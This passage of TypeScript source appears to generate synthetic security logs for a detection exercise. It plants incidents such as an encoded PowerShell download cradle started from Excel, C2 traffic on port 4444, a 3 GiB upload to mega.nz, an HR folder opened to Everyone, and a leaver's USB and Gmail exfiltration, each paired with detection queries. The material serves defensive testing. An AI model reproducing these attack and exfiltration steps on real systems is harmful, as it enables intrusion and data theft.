      this.win('ws', { t: t + 800, id: 4104, provider: 'Microsoft-Windows-PowerShell', channel: 'Microsoft-Windows-PowerShell/Operational', computer: comp, level: 3, task: 2, taskName: 'Execute a Remote Command', version: 1, data: [['MessageNumber', '1'], ['MessageTotal', '1'], ['ScriptBlockText', script], ['ScriptBlockId', '{5b1f3a0e-7d8c-4e2f-9a1b-2c3d4e5f6a7b}'], ['Path', '']], message: 'Creating Scriptblock text (1 of 1):' });
      this.fgtTraffic(t + 1500, psUser.ip, ATTACK.c2, 80, 'HTTP', 420, 18_230, 'accept', psUser.account, undefined, rng);
      this.sysmonAttack(t, psUser, enc);
      this.record({ id: 'encoded-powershell', title: 'Encoded PowerShell download cradle started from Excel', who: psUser.account, what: 'EXCEL.EXE starts powershell.exe -Enc; the 4104 script block shows IEX DownloadString', monitoringPoint: 'Information gathering: suspicious PowerShell', useCase: '1 cyber attack', detections: [
        { description: '4688 powershell with -Enc', query: `event.code:4688 AND host.name:${psUser.host}* AND process.command_line:*enc*`, minCount: 1 },
        { description: '4104 script block with a download cradle', query: 'event.code:4104 AND powershell.file.script_block_text:*DownloadString*', minCount: 1 },
        { description: 'Sysmon: powershell.exe started by EXCEL.EXE', query: `event.provider:Microsoft-Windows-Sysmon AND event.code:1 AND host.name:${psUser.host}* AND process.parent.name:EXCEL.EXE AND process.name:powershell.exe`, minCount: 1 },
        { description: 'Sysmon: powershell.exe connects to the C2 address', query: `event.provider:Microsoft-Windows-Sysmon AND event.code:3 AND process.name:powershell.exe AND destination.ip:${ATTACK.c2}`, minCount: 1 },
      ] }, t, t + 1500);
    }

    // 7. Non-permitted port, 8. large upload, 9. uplink saturation.
    if (d === w(5)) {
      const t = this.at(d, 10, 30);
      for (let i = 0; i < 30; i++) this.fgtTraffic(t + i * 60_000, portUser.ip, ATTACK.c2, 4444, 'tcp/4444', rng.int(2000, 9000), rng.int(2000, 9000), 'accept', portUser.account, undefined, rng);
      for (let i = 0; i < 6; i++) this.fgtTraffic(t + i * 5 * MINUTE + 30_000, portUser.ip, ATTACK.c2, 6667, 'tcp/6667', 0, 0, 'deny', portUser.account, undefined, rng, { id: 9, name: 'Block-Unlisted-Ports' });
      this.record({ id: 'non-permitted-port', title: 'A factory PC talks to the Internet on TCP 4444 and 6667', who: portUser.account, what: '30 allowed sessions to 198.51.100.99:4444 and 6 denied to :6667', monitoringPoint: 'Exfiltration: non-permitted ports', useCase: '1 cyber attack', detections: [{ description: 'sessions to port 4444', query: `destination.port:4444 AND source.ip:${portUser.ip}`, minCount: 30 }] }, t, t + 30 * MINUTE);

      const tu = this.at(d, 16, 5);
      const big = 3_221_225_472;
      this.fgtTraffic(tu + 40 * MINUTE, uploader.ip, ATTACK.exfil, 443, 'HTTPS', big, 4_200_000, 'close', uploader.account, 'mega.nz', rng);
      this.sinks.squid.add(tu + 40 * MINUTE, `${epochSeconds(tu + 40 * MINUTE)} 2400113 ${uploader.ip} TCP_TUNNEL/200 ${big + 4_200_000} CONNECT mega.nz:443 ${uploader.account} HIER_DIRECT/${ATTACK.exfil} -`);
      this.zeekConn(tu, uploader.ip, ATTACK.exfil, 443, 'ssl', 2400.1, big, 4_200_000, rng);
      this.record({ id: 'large-upload', title: '3 GiB uploaded to cloud storage from one PC', who: uploader.account, what: `${uploader.ip} sends 3 GiB to mega.nz over 40 minutes (firewall, proxy and Zeek all see it)`, monitoringPoint: 'Exfiltration: large upload per IP', useCase: '1 cyber attack, 2 insider', detections: [
        { description: 'firewall session with > 1 GB sent', query: `source.ip:${uploader.ip} AND source.bytes:>=1000000000`, minCount: 1 },
        { description: 'proxy tunnel to cloud storage', query: `user.name:${uploader.account} AND kansa.url.category:cloud-storage AND destination.bytes:>=1000000000`, minCount: 1 },
      ] }, tu, tu + 40 * MINUTE);

      const ts = this.at(d, 13, 0);
      for (let i = 0; i < 60; i++) {
        const u = ts + i * MINUTE;
        this.zeekConn(u, saturator.ip, `203.0.113.${200 + (i % 5)}`, 443, 'ssl', 59.5, rng.int(40_000, 90_000), rng.int(600_000_000, 750_000_000), rng);
      }
      this.record({ id: 'uplink-saturation', title: 'One PC saturates the Internet uplink for an hour', who: saturator.account, what: `${saturator.ip} downloads ~40 GB in 60 minutes (Zeek conn), about 90 Mbit/s`, monitoringPoint: 'Failure investigation: communication bottlenecks', useCase: '5 failure investigation', detections: [{ description: 'large Zeek connections from the PC', query: `source.ip:${saturator.ip} AND destination.bytes:>=500000000`, minCount: 60 }] }, ts, ts + HOUR);
    }

    // 10. ACL change on a confidential folder, 11. admin reads HR files and bulk-selects the HR DB.
    if (d === w(6)) {
      const t = this.at(d, 18, 40);
      const lid = '0x5e11a0';
      const path = 'C:\\Shares\\人事\\機密\\給与一覧_2026.xlsx';
      this.sec('fs', t, `FS02.${FQDN}`, 4670, [...this.subject(admin, lid), ['ObjectServer', 'Security'], ['ObjectType', 'File'], ['ObjectName', 'C:\\Shares\\人事\\機密'], ['HandleId', hex((this.handle += 4))], ['OldSd', 'D:PAI(A;OICI;FA;;;BA)(A;OICI;0x1301bf;;;S-1-5-21-3623811015-3361044348-30300820-3001)'], ['NewSd', 'D:PAI(A;OICI;FA;;;BA)(A;OICI;0x1301bf;;;S-1-5-21-3623811015-3361044348-30300820-3001)(A;OICI;FA;;;WD)'], ['ProcessId', '0x4'], ['ProcessName', '']], 'Permissions on an object were changed.', { task: 13570, taskName: 'Authorization Policy Change' });
      this.record({ id: 'acl-change-confidential', title: 'Everyone given full control on the confidential HR folder', who: admin.account, what: '4670 on C:\\Shares\\人事\\機密 adds (A;OICI;FA;;;WD)', monitoringPoint: 'Insider: ACL change on important folders', useCase: '2 insider, 3 audit', detections: [{ description: 'permission change on 機密', query: 'event.code:4670 AND file.path:*人事\\\\機密*', minCount: 1 }] }, t, t);

      let u = t + 5 * MINUTE;
      for (let i = 0; i < 40; i++) u = this.fileAccess(u + rng.int(3000, 20_000), 'FS02', admin, lid, i === 0 ? path : `C:\\Shares\\人事\\機密\\人事評価_${i}.xlsx`, 'read');
      const tdb = u + 2 * MINUTE;
      const pid = ++this.pgPid;
      this.sinks.pg.add(tdb, `${pgStamp(tdb)} [${pid}] [unknown]@[unknown] LOG:  connection received: host=${admin.ip} port=52344`);
      this.sinks.pg.add(tdb + 20, `${pgStamp(tdb + 20)} [${pid}] ${admin.account}@hrdb LOG:  connection authorized: user=${admin.account} database=hrdb application_name=psql`);
      let v = tdb + 1000;
      for (let i = 0; i < 120; i++) {
        const table = ['employees', 'salaries', 'evaluations', 'addresses'][i % 4];
        this.sinks.pg.add(v, `${pgStamp(v)} [${pid}] ${admin.account}@hrdb LOG:  AUDIT: SESSION,${i + 1},1,READ,SELECT,TABLE,public.${table},"select * from ${table} offset ${i * 5000} limit 5000",<not logged>`);
        v += rng.int(800, 4000);
      }
      this.record({ id: 'admin-reads-hr', title: 'A privileged admin reads HR files and bulk-selects the HR database', who: admin.account, what: '40 files under 人事\\機密 read on FS02, then 120 SELECT * on hrdb from psql', monitoringPoint: 'Insider: privileged use (file reads, DB operations)', useCase: '2 insider, 3 audit', detections: [
        { description: 'admin file reads in 人事', query: `event.action:read-file AND user.name:${admin.account} AND file.path:*人事*`, minCount: 40 },
        { description: 'bulk SELECTs on hrdb by the admin', query: `user.name:${admin.account} AND event.action:db-read`, minCount: 100 },
      ] }, t, v);
    }

    // 12. A sales user opens development shares for the first time.
    if (d === w(7)) {
      const t = this.at(d, 15, 10);
      let u = t;
      for (let i = 0; i < 25; i++) u = this.fileAccess(u + rng.int(5000, 40_000), 'FS01', explorer, '0x6b0c2a', `C:\\Shares\\開発\\${rng.pick(['ソースコード', '製品設計', '仕様書'])}\\${rng.pick(SHARE_FILES)}_${i + 1}${rng.pick(EXTS)}`, 'read');
      this.record({ id: 'sales-opens-dev-share', title: 'A sales user opens development shares never touched before', who: explorer.account, what: '25 files under C:\\Shares\\開発 read, after weeks of 営業-only access', monitoringPoint: 'Insider: unusual behaviour (risk score)', useCase: '2 insider', detections: [{ description: 'reads of 開発 by the sales user', query: `user.name:${explorer.account} AND file.path:*\\\\開発\\\\*`, minCount: 25 }] }, t, u);
    }

    // 13. Late-night work and holiday work; 14. a rest interval under 11 h.
    if (d === w(8)) {
      const a = this.at(d, 9, 2);
      const b = this.at(d, 23, 48);
      this.workSession(lateWorker, a, b, rng.fork('late'), d, false, {});
      this.record({ id: 'late-night-work', title: 'Late-night work until almost midnight', who: lateWorker.account, what: `${lateWorker.host} used from 09:02 until 23:48`, monitoringPoint: 'Working hours: late-night PC use', useCase: '4 working hours', detections: [{ description: 'logoff after 22:00 JST', query: `event.code:4647 AND user.name:${lateWorker.account} AND ${this.range(this.at(d, 22, 0), this.at(d, 23, 59))}`, minCount: 1 }] }, a, b);
    }
    const hd = off.find((x) => this.holidays.has(jstDate(this.at(x, 12, 0)))) ?? (off.length > 0 ? off[0] : -1);
    if (d === hd) {
      const a = this.at(d, 10, 12);
      const b = this.at(d, 16, 40);
      this.workSession(lateWorker, a, b, rng.fork('holiday'), d, false, {});
      const name = this.holidays.get(jstDate(a)) ?? (jst(a).dow === 0 ? '日曜日' : '土曜日');
      this.record({ id: 'holiday-work', title: `Work on a day off (${jstDate(a)} ${name})`, who: lateWorker.account, what: `${lateWorker.host} logon 10:12, logoff 16:40 on a weekend/holiday`, monitoringPoint: 'Working hours: holiday PC use', useCase: '4 working hours', detections: [{ description: 'logon on the day off', query: `event.code:4624 AND user.name:${lateWorker.account} AND host.name:${lateWorker.host}* AND ${this.range(this.at(d, 0, 0), this.at(d, 23, 59))}`, minCount: 1 }] }, a, b);
    }
    if (d === this.restDay()) {
      const a = this.at(d, 9, 10);
      const b = this.at(d, 23, 55);
      this.workSession(restUser, a, b, rng.fork('rest1'), d, false, {});
      const next = this.at(d + 1, 7, 50);
      const end = this.at(d + 1, 17, 30);
      if (d + 1 < this.opts.days) this.workSession(restUser, next, end, rng.fork('rest2'), d + 1, false, {});
      this.record({ id: 'rest-interval-short', title: 'Rest interval of about 8 hours (under 11 h)', who: restUser.account, what: `logoff ${isoJst(b)}, next logon ${isoJst(next)}`, monitoringPoint: 'Working hours: 勤務間インターバル', useCase: '4 working hours', detections: [
        { description: 'the late logoff', query: `event.code:4647 AND user.name:${restUser.account} AND ${this.range(this.at(d, 23, 0), this.at(d, 23, 59))}`, minCount: 1 },
        { description: 'the early logon the next morning', query: `event.code:4624 AND user.name:${restUser.account} AND host.name:${restUser.host}* AND ${this.range(this.at(d + 1, 7, 0), this.at(d + 1, 8, 0))}`, minCount: 1 },
      ] }, b, next);
    }

    // 15. Switch port flapping and an AP error storm.
    if (d === w(10)) {
      const t = this.at(d, 11, 2);
      for (let i = 0; i < 24; i++) {
        const u = t + i * 25_000 + rng.int(0, 3000);
        const state = i % 2 === 0 ? 'down' : 'up';
        this.sinks.sw.add(u, `<187>${++this.ciscoSeq}: floor3-sw01: ${ciscoStamp(u)}: %LINK-3-UPDOWN: Interface GigabitEthernet1/0/17, changed state to ${state}`);
        this.sinks.sw.add(u + 1000, `<189>${++this.ciscoSeq}: floor3-sw01: ${ciscoStamp(u + 1000)}: %LINEPROTO-5-UPDOWN: Line protocol on Interface GigabitEthernet1/0/17, changed state to ${state}`);
      }
      this.record({ id: 'switch-port-flapping', title: 'Switch port Gi1/0/17 flapping', who: 'floor3-sw01', what: '24 link up/down changes in 10 minutes', monitoringPoint: 'Failure investigation: network device errors', useCase: '5 failure investigation', detections: [{ description: 'link state changes on the port', query: 'host.name:floor3-sw01 AND observer.ingress.interface.name:"GigabitEthernet1/0/17"', minCount: 24 }] }, t, t + 10 * MINUTE);
      const ta = this.at(d, 11, 20);
      for (let i = 0; i < 80; i++) {
        const u = ta + i * 7000 + rng.int(0, 2000);
        const line = i % 3 === 0
          ? `<187>${++this.ciscoSeq}: ap-3f-02: ${ciscoStamp(u)}: %DOT11-3-RADIO_RX_BUF_FULL: Interface Dot11Radio1, Radio receive buffer full`
          : `<188>${++this.ciscoSeq}: ap-3f-02: ${ciscoStamp(u)}: %DOT11-4-MAXRETRIES: Packet to client 3c22.fb${rng.hex(2)}.${rng.hex(4)} reached max retries, removing the client`;
        this.sinks.ap.add(u, line);
      }
      this.record({ id: 'ap-error-storm', title: 'Wireless AP error storm', who: 'ap-3f-02', what: '80 radio errors (RX buffer full, max retries) in 10 minutes', monitoringPoint: 'Failure investigation: wireless AP errors', useCase: '5 failure investigation', detections: [{ description: 'AP errors', query: 'host.name:ap-3f-02 AND event.severity:<=4', minCount: 80 }] }, ta, ta + 10 * MINUTE);
    }

    // 16. The leaver, across the second half: job sites, USB copies, mail out, heavy printing.
    if (work.includes(d) && leaver) {
      const lr = rng.fork('leaver');
      const t = this.at(d, 12, 10);
      for (let i = 0; i < 8; i++) this.browse(leaver, t + i * 90_000, lr, 'job-site');
      const comp = `${leaver.host}.${FQDN}`;
      const tu = this.at(d, 17, 20);
      this.sec('ws', tu, comp, 6416, [...this.machineSubject(leaver.host), ['DeviceId', 'USBSTOR\\Disk&Ven_SanDisk&Prod_Ultra&Rev_1.00\\4C530001230915112345&0'], ['DeviceDescription', 'SanDisk Ultra USB Device'], ['ClassId', '{4d36e967-e325-11ce-bfc1-08002be10318}'], ['ClassName', 'DiskDrive'], ['VendorIds', 'USBSTOR\\DiskSanDisk_Ultra___________1.00'], ['CompatibleIds', 'USBSTOR\\Disk'], ['LocationInformation', 'Port_#0002.Hub_#0001']], 'A new external device was recognized by the system.', { task: 13316, taskName: 'Plug and Play Events' });
      let u = tu + 20_000;
      const lid = '0x77aa01';
      for (let i = 0; i < 12; i++) {
        const h = hex((this.handle += 4));
        const path = `E:\\持ち出し\\${lr.pick(SHARE_FILES)}_${i + 1}${lr.pick(EXTS)}`;
        const base = this.subject(leaver, lid);
        this.sec('ws', u, comp, 4656, [...base, ['ObjectServer', 'Security'], ['ObjectType', 'File'], ['ObjectName', path], ['HandleId', h], ['TransactionId', '{00000000-0000-0000-0000-000000000000}'], ['AccessList', '%%1538\n\t\t\t\t%%1541\n\t\t\t\t%%4417\n\t\t\t\t%%4418\n\t\t\t\t%%4420\n\t\t\t\t%%4424\n\t\t\t\t'], ['AccessReason', '-'], ['AccessMask', '0x120116'], ['PrivilegeList', '-'], ['RestrictedSidCount', '0'], ['ProcessId', '0x1d30'], ['ProcessName', 'C:\\Windows\\explorer.exe'], ['ResourceAttributes', '-']], 'A handle to an object was requested.', { version: 1, task: 12813, taskName: 'Removable Storage' });
        this.sec('ws', u + 5, comp, 4663, [...base, ['ObjectServer', 'Security'], ['ObjectType', 'File'], ['ObjectName', path], ['HandleId', h], ['AccessList', '%%4417\n\t\t\t\t'], ['AccessMask', '0x2'], ['ProcessId', '0x1d30'], ['ProcessName', 'C:\\Windows\\explorer.exe'], ['ResourceAttributes', '-']], 'An attempt was made to access an object.', { version: 1, task: 12813, taskName: 'Removable Storage' });
        this.sec('ws', u + 40, comp, 4658, [...base, ['ObjectServer', 'Security'], ['HandleId', h], ['ProcessId', '0x1d30'], ['ProcessName', 'C:\\Windows\\explorer.exe']], 'The handle to an object was closed.', { task: 12813, taskName: 'Removable Storage' });
        u += lr.int(4000, 30_000);
      }
      for (let i = 0; i < 3; i++) this.mailOut(leaver, this.at(d, 17, 40) + i * 4 * MINUTE, lr, `${leaver.romaji.split(' ')[1]}.${leaver.romaji.split(' ')[0]}1987@gmail.com`, lr.int(5_000_000, 18_000_000));
      this.print(leaver, this.at(d, 18, 5), lr, lr.int(120, 400), `顧客一覧_全件_${jstDate(t).replace(/-/g, '')}.xlsx`);
      if (d === work[0]) {
        const days = work.length;
        this.record({ id: 'leaver-exfiltration', title: '退職予定者: job-site browsing, USB copies, mail to a private address and heavy printing in the last weeks', who: leaver.account, what: `every working day of the second half: 8 job-site visits, a USB stick with 12 copies, 3 large mails to gmail.com, one 120–400 page print job (departure ${leaver.departureDate})`, monitoringPoint: 'Insider: employees about to leave (watchlist)', useCase: '2 insider', detections: [
          { description: 'job-site browsing by a watchlisted user', query: `user.name:${leaver.account} AND kansa.url.category:job-site AND kansa.user.watchlist:true`, minCount: 8 * days },
          { description: 'USB device plugged in', query: `event.code:6416 AND kansa.host.owner:${leaver.account}`, minCount: days },
          { description: 'copies to removable storage', query: `user.name:${leaver.account} AND file.path:E\\:\\\\* AND kansa.user.watchlist:true`, minCount: 12 * days },
          { description: 'mail to a private address', query: 'email.direction:outbound AND email.to.address:*@gmail.com', minCount: 3 * days },
          { description: 'heavy printing', query: `user.name:${leaver.account} AND event.action:document-printed AND kansa.print.pages:>=100 AND kansa.user.watchlist:true`, minCount: days },
        ] }, this.at(work[0], 12, 10), this.at(work[work.length - 1], 18, 10));
      }
    }
  }

}

export { DEPARTMENTS, p2 };
